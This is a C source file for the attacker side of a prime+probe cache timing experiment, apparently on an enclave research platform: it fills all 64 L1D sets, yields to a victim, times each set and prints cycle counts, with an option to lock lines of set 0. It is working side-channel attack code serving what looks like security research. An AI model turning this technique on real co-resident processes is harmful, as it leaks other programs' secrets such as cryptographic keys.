/*
 * Attacker of the prime+probe experiment: learns from time which sets of the L1D its neighbour used.
 *
 * One round: fill all ways of all sets with own lines (prime), yield so that the host can run the victim, then read
 * the lines again and take the cycles of each set (probe). Geometry: 16 KiB, 4 ways, 64-byte lines, hence 64 sets,
 * and line s of every page belongs to set s, whatever the physical page.
 *
 * Keeping its own noise away: the lines of a set are a chain of dependent loads, probed in the reverse of the order
 * in which they were primed (the same order would evict each line just before it is read, under LRU); all chains are
 * built beforehand; nothing but the buffer is touched between the last prime and the first probe except the stack
 * (sets 63 downwards, 55 when there are program arguments) and the scores (sets 48 to 51).
 *
 *   probe [ROUNDS]      default 64; prints one line a round: 64 decimal numbers, the cycles of sets 0 to 63
 *   probe ROUNDS hold   BINDs all lines of set 0 but one and keeps them: while they stay locked, nobody else can lock
 *                       a line of that set
 *
 * Exit value 0; 1 if BINDING is refused; 2 for a bad argument.
 */
#include "arguments.h"
#include <atoll.h>

#define SETS 64
#define WAYS 4

typedef struct line {
  struct line *next;
  uint8_t rest[EAPP_LINE_SIZE - sizeof(struct line *)];
} line_t;

/* buffer[way][set]: each way is one page. */
static __attribute__((section(".data.page_aligned"), aligned(4096))) line_t buffer[WAYS][SETS] = {{{0}}};

static struct {
  uint8_t below_set_48[48 * EAPP_LINE_SIZE];
  uint32_t cycles[SETS];
} score __attribute__((section(".bss.page_aligned"), aligned(4096)));

static void prime(void)
{
  for (int set = 0; set < SETS; set++)
    for (int way = 0; way < WAYS; way++) (void)*(volatile uint64_t *)buffer[way][set].rest;
}

/* The chain of a set runs from its last way to its first, and ends in NULL. */
static void chain_lines(void)
{
  for (int set = 0; set < SETS; set++)
    for (int way = 0; way < WAYS; way++) buffer[way][set].next = way > 0 ? &buffer[way - 1][set] : NULL;
}

static inline uint64_t cycles_of_chain(line_t *line)
{
  uint64_t from = eapp_rdcycle();
  while (line != NULL) line = *(line_t *volatile *)&line->next;
  return eapp_rdcycle() - from;
}

/* Sets in falling order: the first set probed is the last one primed. */
static void probe(void)
{
  for (int set = SETS - 1; set >= 0; set--)
    score.cycles[set] = (uint32_t)cycles_of_chain(&buffer[WAYS - 1][set]);
}

/* One SYS_WRITE a round, as long as no set takes 7 digits of cycles. */
static void print_scores(void)
{
  char text[SETS * 11];
  size_t byte_len = 0;
  for (int set = 0; set < SETS; set++) {
    char digits[10];
    size_t first = sizeof digits;
    uint32_t value = score.cycles[set];
    do {
      digits[--first] = (char)('0' + value % 10);
      value /= 10;
    } while (value != 0);
    while (first < sizeof digits) text[byte_len++] = digits[first++];
    text[byte_len++] = set < SETS - 1 ? ' ' : '\n';
  }
  eapp_write(text, byte_len);
}

/* Takes what the cache has to lock in set 0. @returns 0, or -1 if BINDING is refused */
static int hold_set_0(void)
{
  for (int way = 0; way < WAYS - 1; way++)
    if (eapp_binding(&buffer[way][0], EAPP_LINE_SIZE) != 0) return -1;
  return 0;
}

int main(int argc, char **argv)
{
  uint64_t rounds = 64;
  int hold = argc > 1 && is_same_text(argv[1], "hold");
  if (argc > 0 && parse_u64(argv[0], &rounds) != 0) return 2;
  if (argc > 1 && !hold) return 2;
  chain_lines();
  if (hold && hold_set_0() != 0) return 1;
  for (uint64_t round = 0; round < rounds; round++) {
    prime();
    eapp_yield();
    probe();
    print_scores();
  }
  return 0;
}
